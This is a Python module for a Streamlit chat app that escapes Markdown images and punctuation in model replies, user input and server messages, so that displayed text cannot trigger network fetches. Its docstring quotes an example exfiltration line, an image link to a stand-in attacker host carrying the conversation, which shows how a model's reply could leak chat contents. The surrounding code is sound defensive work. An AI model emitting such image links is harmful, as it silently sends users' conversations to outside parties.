"""Text from the network is data, not markup: the one place that prepares it for Streamlit.

Every Streamlit element that reads Markdown (`st.markdown`, `st.caption`, `st.error` and the
other alerts, metric values, table cells, labels) turns `![alt](url)` into an `<img>` the
browser fetches as soon as it is drawn, with `unsafe_allow_html` off too. A reply that says
`![x](https://attacker/?q=<the conversation>)` would send the conversation away without a
click, so:

- `markdown(text)` is for model output and for what the user typed (chat replies, live or
  finished, the Translator's lines, the Memory Chatbot's questions): Markdown stays Markdown,
  but no image is ever an image. Every CommonMark image (inline, full, collapsed or shortcut
  reference) begins with the two characters `![`, and `!\\[` is an escaped bracket, never an
  image. Top-level fenced and indented code blocks are left as they are (the backslash would
  show there, in `vec![1]`); markdown-it-py finds them with the same CommonMark block rules
  as Streamlit's parser. Code inside lists and quotes is escaped too, which is only cosmetic.
- `literal(text)` is for what a server says outside the model's reply (error messages that
  quote its body, status reasons, header values, model names): every ASCII punctuation
  character is escaped, so nothing in it is Markdown: no image, no link, no emphasis, no
  `:material/...:` icon or `:red[...]` colour, no math. Only a bare `https://...` still
  becomes a link, one that shows its whole address and is followed only when clicked.
- `code(text)` is for a short server value shown as code (a request id): a code span whose
  delimiter no backtick in the value can close.
"""

from __future__ import annotations

import functools
import re
from typing import Any

_ASCII_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
_LEADING_BLANKS = re.compile(r"^[ \t]+", re.MULTILINE)
_LINE_ENDINGS = re.compile(r"\r\n?")
IMAGE_START = "!["


def markdown(text: str) -> str:
    """`text` as Markdown in which no image is an image (it shows as its source text)."""
    if IMAGE_START not in text:
        return text
    # Lines as CommonMark counts them (CR, LF, CRLF), so block positions match line numbers.
    lines = _LINE_ENDINGS.sub("\n", text).split("\n")
    kept = _code_lines(lines)
    return "\n".join(
        line if number in kept else line.replace(IMAGE_START, "!\\[")
        for number, line in enumerate(lines)
    )


def literal(text: str) -> str:
    """`text` shown as written where Streamlit reads Markdown: no part of it is markup."""
    escaped = _ASCII_PUNCTUATION.sub(r"\\\1", _LINE_ENDINGS.sub("\n", text))
    # Leading blanks would make an indented code block: keep them as no-break spaces.
    escaped = _LEADING_BLANKS.sub(lambda m: "\u00a0" * len(m.group(0).expandtabs(4)), escaped)
    return escaped.replace("\n", "  \n")  # each line break shown as one


def code(text: str) -> str:
    """`text` as an inline code span: shown as written (nothing inside a code span is Markdown),
    its delimiter longer than any run of backticks in it (CommonMark 6.1)."""
    text = " ".join(text.split())  # a code span is one line
    fence = "`" * (max(map(len, re.findall(r"`+", text)), default=0) + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _code_lines(lines: list[str]) -> set[int]:
    """Numbers of the lines inside top-level fenced or indented code blocks."""
    kept: set[int] = set()
    for token in _block_parser().parse("\n".join(lines)):
        if token.type in ("fence", "code_block") and token.map and token.level == 0:
            kept.update(range(*token.map))
    return kept


@functools.cache
def _block_parser() -> Any:
    """CommonMark's block rules only (inline parsing is not needed to find code blocks).

    Imported on first use: most replies hold no image, and the import takes ~100 ms.
    """
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").disable(["inline", "text_join"])


__all__ = ["code", "literal", "markdown"]
